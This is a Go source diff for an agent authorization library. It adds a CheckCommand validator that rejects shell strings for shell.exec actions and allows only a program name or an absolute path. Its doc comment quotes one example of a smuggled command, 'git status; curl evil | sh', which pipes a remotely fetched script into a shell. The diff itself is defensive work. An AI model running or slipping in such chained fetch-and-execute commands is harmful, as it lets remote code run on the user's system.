@@ -1,5 +1,5 @@
 // Package resource defines the canonical form of the resource an action
-// names, one parser per resource type: file paths, URIs, hosts, commands,
+// names, one checker per resource type: file paths, URIs, hosts, commands,
 // tool and prompt names, secret names and agents. Scope matching, policy
 // and the ledger all see the same canonical string.
 //
@@ -49,9 +49,11 @@ func Check(action, resource string) error {
 		return CheckHost(resource)
 	case "tool.call", "prompt.get":
 		return CheckTool(resource)
-	case "shell.exec", "secret.use", "task.delegate":
-		// Commands, secret names and agent IDs: text rules only (checked
-		// above); none of them is a path a "**" could climb out of.
+	case "shell.exec":
+		return CheckCommand(resource)
+	case "secret.use", "task.delegate":
+		// Secret names and agent IDs: text rules only (checked above);
+		// neither is a path a "**" could climb out of.
 		return nil
 	}
 	return fmt.Errorf("%w: unknown action %s", ErrNotCanonical, Quote(action))
@@ -319,6 +321,32 @@ func CheckHost(h string) error {
 	}
 	if canonical != name {
 		return fmt.Errorf("%w: host %s: not in canonical form (lowercase, internationalised labels as \"xn--\" A-labels): write %s", ErrNotCanonical, Quote(h), Quote(canonical))
+	}
+	return nil
+}
+
+// CheckCommand reports whether c is a canonical command: the program a
+// shell.exec runs, its argv[0], not a shell string. It is a bare name of
+// ASCII letters, digits, "_", "-", "+" and "." (never "." or ".."), or an
+// absolute path by CheckPath's rules. Whitespace and shell syntax are
+// refused: "git status; curl evil | sh" is a string a shell would turn
+// into three programs, and a scope pattern or policy written for the first
+// would wrongly cover the rest. The arguments travel apart from the
+// resource (the AuthZEN context.command, the policy's context.command).
+func CheckCommand(c string) error {
+	if strings.HasPrefix(c, "/") {
+		if err := CheckPath(c); err != nil {
+			return fmt.Errorf("%w: command %s: %s", ErrNotCanonical, Quote(c), reason(err))
+		}
+		return nil
+	}
+	for i := 0; i < len(c); i++ {
+		if b := c[i]; !(b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9' || b == '_' || b == '-' || b == '+' || b == '.' || b == '/') {
+			return fmt.Errorf("%w: command %s: a program name (argv[0]), not a shell string: only ASCII letters, digits, \"_\", \"-\", \"+\" and \".\"", ErrNotCanonical, Quote(c))
+		}
+	}
+	if c == "." || c == ".." || strings.Contains(c, "/") {
+		return fmt.Errorf("%w: command %s: want a program name or an absolute path", ErrNotCanonical, Quote(c))
 	}
 	return nil
 }
